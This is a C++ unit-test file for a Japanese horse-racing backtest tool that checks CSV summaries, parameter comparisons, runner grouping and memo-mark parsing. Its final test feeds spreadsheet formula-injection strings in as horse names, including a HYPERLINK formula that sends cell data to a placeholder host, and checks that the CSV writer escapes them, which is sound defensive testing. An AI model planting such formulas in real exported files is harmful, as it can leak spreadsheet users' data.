#include <cmath>
#include <cstdio>
#include <filesystem>
#include <gtest/gtest.h>
#include <map>
#include <set>

#include "backtest/backtest_support.h"
#include "backtest/race_assist.h"
#include "platform/fs.h"
#include "platform/text.h"
#include "support/temp_dir.h"

namespace pado::testing {

namespace {

struct Count {
    long runners = 0, wins = 0, top3 = 0, finishers = 0, finishSum = 0;
    double odds = 0;
};

std::string OneDecimal(double v)
{
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.1f", v);
    return buf;
}

// summary.csv rows of one parameter set: group -> row.
std::map<std::string, std::vector<std::string>> SummaryRows(const std::string& file, const std::string& params)
{
    std::map<std::string, std::vector<std::string>> out;
    auto rows = ReadCsv(file);
    EXPECT_EQ(rows.at(0),
        (std::vector<std::string> {
            "params", "group", "runners", "wins", "top3", "win_pct", "top3_pct", "mean_finish", "win_return_pct" }));
    for (std::size_t i = 1; i < rows.size(); ++i)
        if (rows[i][0] == params)
            out[rows[i][1]] = rows[i];
    return out;
}

} // namespace

// Every count and rate of summary.csv, counted again here from marks.csv alone.
TEST(BacktestSummary, AgreesWithACountOverMarksCsv)
{
    TempDir out;
    MakeRaceSource::Config config;
    config.races = 10;
    config.entrants = 12;
    config.runs = 16;
    config.firstSeed = 40;
    config.unbuildable = { 4 };
    backtest::BacktestRun run = Backtest(config, Options(4, 2), out.Path());
    ASSERT_EQ(run.report.failed, 1u);

    std::map<std::string, Count> counts;
    auto rows = ReadCsv(out.File("marks.csv"));
    ASSERT_EQ(rows.at(0),
        (std::vector<std::string> { "race_id", "date", "venue", "race_number", "horse_number", "horse_name", "marks",
            "finish", "popularity", "win_odds" }));
    ASSERT_EQ(rows.size(), 1u + 9 * 12);
    for (std::size_t i = 1; i < rows.size(); ++i) {
        const auto& r = rows[i];
        ASSERT_NE(r[7], "取消");
        const int finish = r[7] == "中止" ? 0 : std::stoi(r[7]);
        std::vector<std::string> groups { "全出走馬" };
        if (r[8] == "1")
            groups.push_back("1番人気");
        const Text marks = FromUtf8(r[6]);
        if (marks.empty())
            groups.push_back("印なし");
        else
            groups.push_back("印の数 " + std::to_string(marks.size()));
        std::set<char32_t> letters(marks.begin(), marks.end());
        for (char32_t c : letters)
            groups.push_back("印「" + ToUtf8(Text(1, c)) + "」");
        for (const auto& g : groups) {
            Count& c = counts[g];
            ++c.runners;
            c.wins += finish == 1;
            c.top3 += finish >= 1 && finish <= 3;
            if (finish > 0) {
                ++c.finishers;
                c.finishSum += finish;
            }
            if (finish == 1)
                c.odds += std::stod(r[9]);
        }
    }
    EXPECT_GT(counts.size(), 4u) << "the races gave no marks to group";

    auto summary = SummaryRows(out.File("summary.csv"), "既定");
    EXPECT_EQ(summary.size(), counts.size());
    for (const auto& [group, c] : counts) {
        SCOPED_TRACE(group);
        ASSERT_TRUE(summary.count(group));
        const auto& s = summary[group];
        EXPECT_EQ(s[2], std::to_string(c.runners));
        EXPECT_EQ(s[3], std::to_string(c.wins));
        EXPECT_EQ(s[4], std::to_string(c.top3));
        EXPECT_EQ(s[5], OneDecimal(100.0 * c.wins / c.runners));
        EXPECT_EQ(s[6], OneDecimal(100.0 * c.top3 / c.runners));
        EXPECT_NEAR(std::stod(s[7]), double(c.finishSum) / c.finishers, 0.005);
        EXPECT_EQ(s[8], OneDecimal(100.0 * c.odds / c.runners));
    }
    // Every race has one winner and one favourite.
    EXPECT_EQ(summary["全出走馬"][3], "9");
    EXPECT_EQ(summary["1番人気"][2], "9");
}

// Two settings files that differ in one time gap (turf, 2400 m and longer) give different marks on the
// race chosen for it, and the table puts them side by side with the difference.
TEST(BacktestSummary, TwoParameterFilesSideBySide)
{
    TempDir out;
    WriteParams(out.File("gap07.txt"), {});
    WriteParams(out.File("gap15.txt"), { { 4, 1.5f } });
    MakeRaceSource::Config config;
    config.races = 1;
    config.entrants = 12;
    config.runs = 16;
    config.firstSeed = 22; // an entrant of this race beats another by between 0.7 and 1.5 seconds
    backtest::EngineOptions options = Options(2, 1);
    // Named relative to where the run starts, as on a command line.
    options.params = { { "gap07.txt", "gap07.txt" }, { "gap15.txt", "gap15.txt" } };
    const auto started = std::filesystem::current_path();
    std::filesystem::current_path(out.Path());
    backtest::BacktestRun run = Backtest(config, options, out.Path());
    std::filesystem::current_path(started);
    ASSERT_EQ(run.report.failed, 0u);

    auto first = ReadCsv(out.File("marks.csv")), second = ReadCsv(out.File("marks-2.csv"));
    ASSERT_EQ(first.size(), second.size());
    int changed = 0;
    for (std::size_t i = 1; i < first.size(); ++i) {
        EXPECT_EQ(first[i][4], second[i][4]);
        changed += first[i][6] != second[i][6];
    }
    EXPECT_GT(changed, 0);

    auto a = SummaryRows(out.File("summary.csv"), "gap07.txt"), b = SummaryRows(out.File("summary.csv"), "gap15.txt");
    EXPECT_NE(a["印なし"][2], b["印なし"][2]);
    // The baselines do not depend on the marks.
    EXPECT_EQ(std::vector<std::string>(a["全出走馬"].begin() + 2, a["全出走馬"].end()),
        std::vector<std::string>(b["全出走馬"].begin() + 2, b["全出走馬"].end()));

    const std::string table = backtest::SummaryTable(run.labels, run.rows);
    EXPECT_NE(table.find("gap07.txt"), std::string::npos);
    EXPECT_NE(table.find("差 (gap15.txt - gap07.txt)"), std::string::npos) << table;
    // The 印なし line: both runner counts, and a difference that is not zero.
    for (const Text& line : SplitLines(FromUtf8(table))) {
        if (!StartsWith(line, U"印なし"))
            continue;
        const std::string l = ToUtf8(line);
        EXPECT_NE(l.find(" " + a["印なし"][2] + " "), std::string::npos) << l;
        EXPECT_NE(l.find(" " + b["印なし"][2] + " "), std::string::npos) << l;
        const std::string diffs = l.substr(l.rfind('|'));
        EXPECT_TRUE(diffs.find('+') != std::string::npos || diffs.find('-') != std::string::npos) << l;
    }
}

// Scratched runners stake nothing and count nowhere; a runner without a finishing position counts as a
// loser but not in the mean finish; a mark given twice counts once for its letter.
TEST(BacktestSummary, GroupsCountStartersOnly)
{
    backtest::RaceOutcome race;
    race.runners = {
        { 1, "A", true, 1, 2, 5.0 },
        { 2, "B", true, 2, 1, 2.0 },
        { 3, "C", false, 0, 0, 0 },
        { 4, "D", true, 0, 3, 9.0 },
    };
    backtest::Summary s;
    s.Add(race, { { 1, "kk" }, { 2, "-" }, { 3, "k" } });
    std::map<std::string, backtest::GroupStats> g;
    for (const auto& row : s.Rows())
        g[row.group] = row;
    EXPECT_EQ(g["全出走馬"].runners, 3u);
    EXPECT_DOUBLE_EQ(g["全出走馬"].MeanFinish(), 1.5);
    EXPECT_DOUBLE_EQ(g["全出走馬"].WinReturnPct(), 100.0 * 5.0 / 3);
    EXPECT_EQ(g["印「k」"].runners, 1u);
    EXPECT_EQ(g["印「k」"].wins, 1u);
    EXPECT_EQ(g["印の数 2"].runners, 1u);
    EXPECT_EQ(g["印の数 1"].runners, 1u);
    EXPECT_EQ(g["印なし"].runners, 1u);
    EXPECT_EQ(g["1番人気"].wins, 0u);
    EXPECT_EQ(g["1番人気"].top3, 1u);
}

// What each entrant row gained; other lines, and rows that were rewritten rather than appended to,
// give nothing.
TEST(BacktestMemo, MarksAreWhatEachRowGained)
{
    const Text before = U"レース\n2026年12月27日\n\n 1 アイウ     牡3(56)\n 9 エオ      牝4(54)\n10 カキ      (外)\n";
    const Text after = U"レース\n2026年12月27日-\n\n 1 アイウ     牡3(56)-k\n 9 エオ      牝4(54)\n10 カキ      "
                       U"(外)d\n11 新しい行 -\n";
    auto marks = backtest::MarksFromMemo(before, after);
    EXPECT_EQ(marks, (std::map<int, std::string> { { 1, "-k" }, { 9, "" }, { 10, "d" } }));
    EXPECT_EQ(backtest::MarksFromMemo(before, U" 1 アイ\n")[1], "");
}

// Names from imported data that a spreadsheet would run as formulas reach marks.csv as text; the
// assist's own marks ("-" leads many) are written as they are.
TEST(BacktestCsv, FormulaLikeNamesAreKeptAsText)
{
    backtest::RaceOutcome race;
    race.raceId = "202612270611";
    race.date = { 2026, 12, 27 };
    race.venue = "@中山";
    race.raceNumber = 11;
    const std::vector<std::string> names = { "=HYPERLINK(\"http://x/\"&A1,\"a\")", "+1+2", "-3", "@SUM(A1)", "\tタブ",
        "\rキャリッジ", "普通の名前", "名前=後ろ" };
    std::map<int, std::string> marks;
    for (std::size_t i = 0; i < names.size(); ++i) {
        race.runners.push_back({ static_cast<int>(i + 1), names[i], true, static_cast<int>(i + 1), 0, 0 });
        marks[static_cast<int>(i + 1)] = i % 2 ? "-k" : "";
    }
    TempDir dir;
    fs::WriteBytesAtomic(dir.File("marks.csv"),
        "\xEF\xBB\xBF" + std::string(backtest::MarksCsv::Header()) + backtest::MarksCsv::Rows(race, marks));
    auto rows = ReadCsv(dir.File("marks.csv"));
    ASSERT_EQ(rows.size(), names.size() + 1);
    for (std::size_t i = 0; i < names.size(); ++i) {
        const std::string& cell = rows[i + 1][5];
        EXPECT_EQ(cell, i < 6 ? "'" + names[i] : names[i]) << i;
        EXPECT_EQ(rows[i + 1][2], "'@中山");
        EXPECT_EQ(rows[i + 1][6], i % 2 ? "-k" : "");
    }
}

} // namespace pado::testing
